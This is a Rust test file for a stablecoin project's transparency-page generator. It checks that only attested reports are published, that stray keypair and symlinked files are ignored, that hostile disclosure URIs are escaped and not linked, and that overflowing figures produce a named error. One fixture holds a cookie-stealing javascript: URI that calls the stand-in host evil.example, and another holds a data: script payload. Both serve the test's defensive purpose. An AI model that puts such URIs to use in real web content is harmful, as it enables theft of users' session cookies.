//! What the public transparency page must never do (issue 22, items 13–15):
//! publish a file that is not an attested report (a keypair left in the
//! reports folder, a file a symbolic link points to), turn a disclosure's
//! `javascript:` URI into a link, or panic on a report whose figures cannot
//! be added up.
use usd1::instructions::DisclosureArgs;
use usd1_client::reserve_report::{Component, Report};
use usd1_client::{hex, sha256};
use usd1_tests::*;

/// Attests `report` (whatever its figures) as the next attestation.
async fn attest_report(f: &Fixture, report: &Report) {
    let mut args = f.next_args(1_000 * ONE).await;
    args.report_sha256 = report.sha256();
    f.usd1.attest(args, &f.signers(2)).await.unwrap();
}

async fn transparency(f: &Fixture, args: &[&str]) -> usd1_cli::Output {
    let mint = f.mint().to_string();
    let mut all = vec!["transparency", "--mint", &mint];
    all.extend_from_slice(args);
    usd1_tests::cli_harness::ok(f, &f.admin, &all).await
}

#[tokio::test(flavor = "multi_thread")]
async fn the_page_publishes_only_attested_reports_and_links_only_web_addresses() {
    let f = Fixture::new(Flavor::Token2022).await;
    f.usd1
        .set_disclosure(
            &f.admin,
            DisclosureArgs {
                terms_uri: "javascript:fetch('//evil.example/'+document.cookie)".into(),
                reserve_report_uri: "data:text/html,<script>alert(1)</script>".into(),
                ..default_disclosure()
            },
        )
        .await
        .unwrap();
    let now = f.now().await;
    let report = Report::build(&f.mint().to_string(), 1, now, DECIMALS, &[], None).unwrap();
    attest_report(&f, &report).await;

    let dir = tempfile::tempdir().unwrap();
    let reports = dir.path().join("reports");
    std::fs::create_dir_all(&reports).unwrap();
    std::fs::write(reports.join("report-0000000001.json"), report.to_bytes()).unwrap();
    // A keypair left in the folder, and a link to a secret outside it whose
    // bytes even hash to an attested report.
    let key = solana_sdk::signature::Keypair::new();
    usd1_tests::tour::write_keypair(&reports.join("id.json"), &key).unwrap();
    let secret = dir.path().join("outside.json");
    std::fs::write(&secret, report.to_bytes()).unwrap();
    std::os::unix::fs::symlink(&secret, reports.join("linked.json")).unwrap();

    let site = dir.path().join("site");
    transparency(
        &f,
        &[
            "--out",
            site.to_str().unwrap(),
            "--reports",
            reports.to_str().unwrap(),
        ],
    )
    .await;
    let mut published: Vec<String> = std::fs::read_dir(site.join("reports"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    published.sort();
    assert_eq!(published, ["report-0000000001.json"]);
    let html = std::fs::read_to_string(site.join("index.html")).unwrap();
    assert!(html.contains(&format!(
        "href=\"reports/report-0000000001.json\">{}",
        hex(&report.sha256())
    )));

    // The hostile URIs are shown, escaped, and linked nowhere.
    assert!(!html.contains("href=\"javascript:"), "{html}");
    assert!(!html.contains("href=\"data:"), "{html}");
    assert!(!html.contains("<script"), "{html}");
    assert_eq!(html.matches("(not a web address: not linked)").count(), 2);
    assert!(html.contains(
        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'"
    ));
    // A web address still links.
    f.usd1
        .set_disclosure(&f.admin, default_disclosure())
        .await
        .unwrap();
    transparency(&f, &["--out", site.to_str().unwrap()]).await;
    let html = std::fs::read_to_string(site.join("index.html")).unwrap();
    assert!(html.contains("<a href=\"https://example.com/terms.pdf\">"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_report_whose_figures_cannot_be_added_up_is_named_not_a_panic() {
    let f = Fixture::new(Flavor::Token2022).await;
    let now = f.now().await;
    // Components whose amounts are each the largest a u128 holds: adding
    // two of them used to overflow and abort the page build.
    let huge = u128::MAX.to_string();
    let component = |name: &str| Component {
        name: name.into(),
        kind: "file".into(),
        location: name.into(),
        amount_base_units: huge.clone(),
        amount: huge.clone(),
        as_of: now,
        holding: None,
        eligible_base_units: Some(huge.clone()),
        ineligible_reason: None,
    };
    let mut report = Report::build(&f.mint().to_string(), 1, now, DECIMALS, &[], None).unwrap();
    report.components = vec![component("a"), component("b")];
    attest_report(&f, &report).await;
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("crafted.json"), report.to_bytes()).unwrap();
    assert_eq!(
        sha256(&report.to_bytes()),
        f.usd1.config().await.unwrap().latest.report_sha256
    );

    let site = dir.path().join("site");
    transparency(
        &f,
        &[
            "--out",
            site.to_str().unwrap(),
            "--reports",
            dir.path().to_str().unwrap(),
        ],
    )
    .await;
    let html = std::fs::read_to_string(site.join("index.html")).unwrap();
    assert!(
        html.contains("ComponentAmountInvalid: the amount of component a is not a number of base units: its composition is not shown"),
        "{html}"
    );
    assert!(html.contains("do NOT follow from its components and policy"));
    let figures: serde_json::Value =
        serde_json::from_slice(&std::fs::read(site.join("transparency.json")).unwrap()).unwrap();
    assert!(figures["composition"]["error"]
        .as_str()
        .unwrap()
        .starts_with("ComponentAmountInvalid"));
}
